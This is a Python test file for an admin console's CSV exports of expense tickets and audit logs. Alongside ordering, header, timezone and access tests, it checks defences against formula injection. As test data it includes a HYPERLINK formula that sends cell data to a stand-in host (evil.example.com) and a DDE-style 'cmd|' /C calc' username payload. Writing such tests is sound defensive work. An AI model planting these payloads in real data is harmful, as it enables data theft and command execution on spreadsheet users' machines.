"""The console's CSV exports: the rows the list shows, as a spreadsheet should read them."""

import csv
import io
import re
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from httpx import ASGITransport, AsyncClient, Response
from sqlalchemy import update

from contoso.admin.views import ConsoleView
from contoso.models import Ticket, User
from contoso.tickets.workflow import STATUSES
from tests.support.console import ConsoleBrowser
from tests.support.factories import Factory

BOM = b"\xef\xbb\xbf"
TICKET_HEADERS = [
    "Ticket",
    "Employee",
    "Email",
    "Spent on",
    "Amount (USD)",
    "Original amount",
    "Original currency",
    "Exchange rate",
    "Rate date",
    "Status",
    "Category",
    "Flags",
    "Description",
    "Links",
    "Filed at",
    "Decided at",
    "Decided by",
    "Note",
]
AUDIT_HEADERS = ["When", "What", "Who", "Ticket", "Employee", "Email", "Note"]


def rows_of(response: Response) -> list[dict[str, str]]:
    """The CSV file as Excel reads it: UTF-8 after its byte-order mark, one dict per row."""
    assert response.status_code == 200, response.text
    assert response.content.startswith(BOM)
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def headers_of(response: Response) -> list[str]:
    return next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


async def set_columns(app, model: type, row_id: int, **values: object) -> None:
    """Write columns the API cannot (fixed times, text as an import might hold it)."""
    async with app.state.database.engine.begin() as connection:
        await connection.execute(update(model).where(model.id == row_id).values(**values))


async def test_a_searched_filtered_sorted_list_exports_exactly_its_rows_in_its_order(
    browser, factory, client
):
    alice = await factory.employee(username="Alice", email="alice@example.com")
    bob = await factory.employee(username="Bob", email="bob@example.com")
    carol = await factory.employee(username="Carol Alice", email="carol@example.com")
    boss = await factory.employer()
    # Equal amounts: the order between them must hold across pages and in the file.
    for number, amount in enumerate(["30.00", "10.00", "30.00", "20.00", "30.00"], 1):
        await factory.ticket(alice, description=f"Trip {number}", amount=amount)
    decided = await factory.ticket(alice, description="Trip decided", amount="99.00")
    await client.post(f"/api/tickets/{decided['id']}/approve", headers=boss.headers)
    await factory.ticket(bob, description="Trip of Bob", amount="30.00")
    await factory.ticket(carol, description="Trip of hidden Carol", amount="30.00")
    await client.post(f"/api/employees/{carol.id}/suspend", headers=boss.headers)
    await browser.login_as(boss)
    listed = {"search": "alice", "status": "pending", "sortBy": "company_amount", "sort": "asc"}

    pages = [
        await browser.client.get("/admin/tickets/list", params=listed | {"page": n, "pageSize": 2})
        for n in (1, 2, 3)
    ]
    export = await browser.client.get("/admin/tickets/export/csv", params=listed)

    on_screen = [
        description
        for page in pages
        for description in dict.fromkeys(re.findall(r"Trip (?:\d|of \w+|decided)", page.text))
    ]
    exported = [row["Description"] for row in rows_of(export)]
    assert "Showing 5 to 5 of 5 items" in pages[2].text
    assert exported == on_screen
    # 10.00, 20.00, then three at 30.00 in the order they were filed.
    assert exported == ["Trip 2", "Trip 4", "Trip 1", "Trip 3", "Trip 5"]
    assert "Trip decided" not in exported  # filtered out by status
    assert "Trip of Bob" not in exported  # not found by the search
    assert "Trip of hidden Carol" not in exported  # suspended: hidden everywhere


async def test_the_export_has_human_headers_and_cells_a_spreadsheet_reads(paris):
    app, browser, factory = paris
    zoe = await factory.employee(username="Zoë 李", email="zoe@example.com")
    boss = await factory.employer(username="Boss Lady")
    decided = await factory.ticket(
        zoe,
        spent_on="2026-11-20",
        amount="1249.99",
        description="Hotel in Zürich",
        links=["https://receipts.example.com/1", "https://receipts.example.com/2"],
    )
    pending = await factory.ticket(zoe, amount="12.50", description="Taxi", links=[])
    await browser.client.post(
        f"/api/tickets/{decided['id']}/deny",
        json={"note": "Over budget"},
        headers=boss.headers,
    )
    # Winter and summer in Paris: UTC+1 and UTC+2.
    await set_columns(
        app,
        Ticket,
        decided["id"],
        created_at=datetime(2026, 11, 21, 13, 3, 5, 123456, tzinfo=ZoneInfo("UTC")),
        decided_at=datetime(2026, 7, 1, 12, 0, 0, tzinfo=ZoneInfo("UTC")),
    )
    await browser.login_as(boss)

    export = await browser.client.get("/admin/tickets/export/csv")

    today = datetime.now(ZoneInfo("Europe/Paris")).date().isoformat()
    assert export.headers["content-type"] == "text/csv; charset=utf-8"
    assert export.headers["content-disposition"] == (f'attachment; filename="tickets-{today}.csv"')
    assert headers_of(export) == TICKET_HEADERS
    by_id = {row["Ticket"]: row for row in rows_of(export)}
    assert by_id[str(decided["id"])] == {
        "Ticket": str(decided["id"]),
        "Employee": "Zoë 李",
        "Email": "zoe@example.com",
        "Spent on": "2026-11-20",
        "Amount (USD)": "1249.99",
        # In the company's currency: the original is the same, at rate 1, of no day.
        "Original amount": "1249.99",
        "Original currency": "USD",
        "Exchange rate": "1",
        "Rate date": "",
        "Status": "Denied",
        "Category": "General",
        "Flags": "",
        "Description": "Hotel in Zürich",
        "Links": "https://receipts.example.com/1 https://receipts.example.com/2",
        "Filed at": "2026-11-21T14:03:05+01:00",
        "Decided at": "2026-07-01T14:00:00+02:00",
        "Decided by": "Boss Lady",
        "Note": "Over budget",
    }
    nothing_yet = by_id[str(pending["id"])]
    assert nothing_yet["Status"] == "Pending"
    assert nothing_yet["Amount (USD)"] == "12.50"
    assert (nothing_yet["Links"], nothing_yet["Decided at"]) == ("", "")
    assert (nothing_yet["Decided by"], nothing_yet["Note"]) == ("", "")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+0[12]:00", nothing_yet["Filed at"])


async def test_formulas_typed_into_tickets_names_and_notes_are_exported_as_text(
    browser, factory, client
):
    attack = '=HYPERLINK("https://evil.example.com/?leak="&A1,"Receipt")'
    mallory = await factory.employee(username="@SUM(1+1)*cmd|' /C calc'!A0")
    boss = await factory.employer()
    ticket = await factory.ticket(mallory, description=attack)
    await client.post(
        f"/api/tickets/{ticket['id']}/deny", json={"note": "+1 555 0100"}, headers=boss.headers
    )
    await browser.login_as(boss)

    (row,) = rows_of(await browser.client.get("/admin/tickets/export/csv"))

    assert row["Description"] == "'" + attack
    assert row["Employee"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["Note"] == "'+1 555 0100"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_every_formula_start_is_neutralised_in_each_text_cell(
    browser, factory, client, app, start
):
    payload = f"{start}2+3"
    alice = await factory.employee()
    boss = await factory.employer()
    ticket = await factory.ticket(alice)
    await client.post(f"/api/tickets/{ticket['id']}/deny", headers=boss.headers)
    # The API strips leading whitespace; rows written before that rule, or imported,
    # may still hold a tab or carriage return.
    await set_columns(app, Ticket, ticket["id"], description=payload, decision_note=payload)
    await set_columns(app, User, alice.id, username=payload)
    await browser.login_as(boss)

    (row,) = rows_of(await browser.client.get("/admin/tickets/export/csv"))

    assert row["Description"] == row["Note"] == row["Employee"] == "'" + payload


async def test_the_audit_log_exports_its_filtered_entries_with_who_they_concern(
    browser, factory, client
):
    alice = await factory.employee(username="Alice", email="alice@example.com")
    bob = await factory.employee(username="Bob", email="bob@example.com")
    boss = await factory.employer(username="Boss Lady")
    denied = await factory.ticket(alice)
    approved = await factory.ticket(alice)
    await client.post(
        f"/api/tickets/{denied['id']}/deny",
        json={"note": "No receipt\nAsk finance"},
        headers=boss.headers,
    )
    await client.post(f"/api/tickets/{approved['id']}/approve", headers=boss.headers)
    await client.post(f"/api/employees/{bob.id}/suspend", headers=boss.headers)
    await browser.login_as(boss)

    everything = await browser.client.get("/admin/audit-log/export/csv")
    denials = await browser.client.get(
        "/admin/audit-log/export/csv", params={"kind": "ticket_denied"}
    )

    assert headers_of(everything) == AUDIT_HEADERS
    entries = rows_of(everything)
    assert [entry["What"] for entry in entries] == [
        "Employee suspended",
        "Ticket approved",
        "Ticket denied",
    ]
    suspension, _, denial = entries
    assert {key: suspension[key] for key in ("Who", "Ticket", "Employee", "Email", "Note")} == {
        "Who": "Boss Lady",
        "Ticket": "",
        "Employee": "Bob",
        "Email": "bob@example.com",
        "Note": "",
    }
    assert (denial["Ticket"], denial["Employee"], denial["Email"]) == (
        str(denied["id"]),
        "Alice",
        "alice@example.com",
    )
    assert denial["Note"] == "No receipt\nAsk finance"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", denial["When"])
    assert [entry["What"] for entry in rows_of(denials)] == ["Ticket denied"]
    assert everything.headers["content-disposition"].startswith('attachment; filename="audit-log-')


async def test_the_export_link_carries_the_lists_filter_and_not_its_page(browser, factory, client):
    alice, boss = await factory.employee(), await factory.employer()
    ticket = await factory.ticket(alice)
    await client.post(f"/api/tickets/{ticket['id']}/deny", headers=boss.headers)
    await client.post(f"/api/employees/{alice.id}/suspend", headers=boss.headers)
    await browser.login_as(boss)

    page = await browser.client.get(
        "/admin/audit-log/list", params={"kind": "employee_suspended", "page": 1}
    )
    link = re.search(r'href="([^"]*/export/csv[^"]*)"', page.text)
    assert link, "no export link on the list"
    export = await browser.client.get(link.group(1).replace("&amp;", "&"))

    assert link.group(1).endswith("/admin/audit-log/export/csv?kind=employee_suspended")
    assert [entry["What"] for entry in rows_of(export)] == ["Employee suspended"]


async def test_the_export_is_sent_as_it_is_read_a_chunk_at_a_time(app, factory, monkeypatch):
    bodies: list[bytes] = []

    async def recording(scope, receive, send):
        async def record(message):
            if message["type"] == "http.response.body" and scope["path"].endswith("/csv"):
                bodies.append(message.get("body", b""))
            await send(message)

        await app(scope, receive, record)

    monkeypatch.setattr(ConsoleView, "export_chunk_rows", 2)
    async with AsyncClient(transport=ASGITransport(app=recording), base_url="http://test") as http:
        factory = Factory(http)
        alice, boss = await factory.employee(), await factory.employer()
        for number in range(5):
            await factory.ticket(alice, description=f"Lunch {number}")
        browser = ConsoleBrowser(http)
        await browser.login_as(boss)

        export = await http.get("/admin/tickets/export/csv")

    assert len(rows_of(export)) == 5
    sent = [body for body in bodies if body]
    # The headers, then the rows two at a time: never the whole file at once.
    assert len(sent) == 4
    assert sent[0].startswith(BOM) and b"Lunch" not in sent[0]
    assert [body.count(b"Lunch") for body in sent[1:]] == [2, 2, 1]


async def test_only_a_logged_in_employer_gets_an_export(browser, factory):
    alice = await factory.employee()
    await factory.ticket(alice, description="Private lunch")

    anonymous = await browser.client.get("/admin/tickets/export/csv")
    await browser.login(alice.email)
    employee = await browser.client.get("/admin/tickets/export/csv")

    assert anonymous.status_code == 302 and "/admin/login" in anonymous.headers["location"]
    assert employee.status_code == 302 and "Private lunch" not in employee.text


async def test_an_export_with_an_unknown_filter_value_is_refused_before_any_file(browser, factory):
    alice, boss = await factory.employee(), await factory.employer()
    await factory.ticket(alice)
    await browser.login_as(boss)

    export = await browser.client.get("/admin/tickets/export/csv", params={"status": "reimbursed"})

    assert export.status_code == 400
    statuses = [status.value for status in STATUSES]
    assert f"choose {', '.join(statuses[:-1])} or {statuses[-1]}" in export.text
    assert "choose pending, changes_requested, " in export.text
    assert "attachment" not in export.headers.get("content-disposition", "")
